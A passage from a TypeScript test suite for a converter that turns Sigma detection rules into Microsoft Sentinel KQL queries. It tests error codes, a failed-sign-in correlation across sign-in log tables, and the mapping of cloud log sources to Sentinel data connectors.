    expect(unrouted.ok || unrouted.errors[0]!.code).toBe('C001');
  });

  it('azure activity of another category than Administrative is C007 (imAuditEvent holds none)', () => {
    const r = convertRule(
      '  product: azure\n  service: activitylogs',
      `  sel:\n    CategoryValue: 'Policy'\n  condition: sel`,
    );
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors[0]!.code).toBe('C007');
  });

  it('a sign-in result code other than 0 is C007: EventResult only tells success from failure', () => {
    const r = convertRule('  product: azure\n  service: signinlogs', `  sel:\n    ResultType: 50053\n  condition: sel`);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors[0]!.code).toBe('C007');
  });
});

function compileRuleOf(c: Case): ReturnType<typeof compileRule> {
  const doc = parse(ruleText(c), { file: `${c.name}.yml` }).documents[0]!.document!;
  if (doc.kind !== 'rule') throw new Error('not a rule');
  return compileRule(doc);
}

describe('a correlation over a union route', () => {
  it('counts failed sign-ins of both tables per user, and binds', () => {
    const text = `title: failed sign-in
name: failed_signin
status: test
logsource:
  product: azure
  service: signinlogs
detection:
  sel:
    ResultType: 50126
    DeviceDetail.trusttype: 'Azure AD joined'
  condition: sel
---
title: many failed sign-ins
status: test
correlation:
  type: event_count
  rules: [failed_signin]
  group-by: [UserPrincipalName]
  timespan: 10m
  condition:
    gte: 5
`;
    const docs = parse(text, { file: 'corr.yml' }).documents.map((d) => d.document!);
    const r = convertDocument(docs[1]!, {
      target: 'kql',
      pipelines: ['sentinel'],
      lookup: (ref) => docs.find((d) => d.kind === 'rule' && d.name === ref),
    });
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    expect(r.tables).toEqual(['SigninLogs', 'AADNonInteractiveUserSignInLogs']);
    expect(r.queries[0]).toContain(
      'union isfuzzy=true SigninLogs, (AADNonInteractiveUserSignInLogs | extend DeviceDetail = todynamic(DeviceDetail))',
    );
    expect(kqlErrors(r.queries[0]!, 'sentinel'), r.queries[0]).toEqual([]);
  });
});

describe('Sentinel rules name the data connector of each cloud table they read', () => {
  const connectors = (r: SigmaRule): unknown => {
    const c = convertDocument(r, { target: 'kql', pipelines: ['sentinel'] });
    if (!c.ok) throw new Error(JSON.stringify(c.errors));
    const format = getBackend('kql')!.formats.find((f) => f.name === 'sentinel-rule')!;
    return (parseYaml(format.render(c, r, {}).text) as Record<string, unknown>)['requiredDataConnectors'];
  };
  it.each([
    ['  product: aws\n  service: cloudtrail', '    eventName: DeleteTrail', 'AWS', 'AWSCloudTrail'],
    ['  product: azure\n  service: activitylogs', '    operationName: x', 'AzureActivity', 'AzureActivity'],
    ['  product: azure\n  service: auditlogs', '    Category: x', 'AzureActiveDirectory', 'AuditLogs'],
    ['  product: m365\n  service: audit', '    Operation: x', 'Office365', 'OfficeActivity'],
    ['  product: gcp\n  service: gcp.audit', '    gcp.audit.method_name: x', 'GCPAuditLogsDefinition', 'GCPAuditLogs'],
    ['  category: dns', '    query: x', 'DNS', 'DnsEvents'],
    ['  category: webserver', '    cs-method: POST', 'AzureMonitor(IIS)', 'W3CIISLog'],
    ['  product: okta\n  service: okta', '    eventType: x', 'OktaSSO', 'Okta_CL'],
  ])('%s → %s', (logsource, detection, connectorId, table) => {
    expect(connectors(ruleWith(logsource, `  sel:\n${detection}`))).toEqual([{ connectorId, dataTypes: [table] }]);
  });
});
